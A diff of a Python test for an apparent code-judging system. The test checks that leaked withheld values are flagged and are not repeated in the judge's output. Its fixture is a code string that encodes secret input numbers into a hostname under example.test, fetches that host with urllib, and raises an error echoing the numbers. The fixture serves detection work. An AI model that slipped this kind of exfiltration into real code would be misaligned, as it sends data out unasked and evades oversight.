@@ -83,12 +83,14 @@ async def test_nothing_that_was_withheld_is_told(court: Court, spoilt: Spoilt) -
     """A tool that repeats in its errors, and in the hosts it asks for, what it was given."""
     leaking = (
         "total = sum(numbers)",
-        "total = 0\n    import contextlib, urllib.request\n    with contextlib.suppress(OSError):\n"
-        '        urllib.request.urlopen(f"http://n{numbers[0] if numbers else 0}.example.test/", timeout=5)\n'
-        "    if numbers and numbers[0] in (70707, 90909):\n        raise ValueError(str(numbers))",
+        "total = sum(numbers)\n    import contextlib, urllib.request\n    if numbers and numbers[0] in (70707, 90909):\n"
+        "        with contextlib.suppress(OSError):\n"
+        '            urllib.request.urlopen(f"http://n{numbers[0]}.example.test/", timeout=5)\n'
+        "        raise ValueError(str(numbers))",
     )
     judgement = await court.judge(spoilt(leaking))
-    assert {"withheld examples", "stays within"} <= set(failed_checks(judgement))
+    assert failed_checks(judgement) == ["withheld examples", "stays within"]
+    assert "it asked for 2 hosts" in judgement.for_the_maker
     everything = " ".join(check.details for check in judgement.checks)
     assert not [secret for secret in ("70707", "70_707", "90909", "70708") if secret in everything]
 
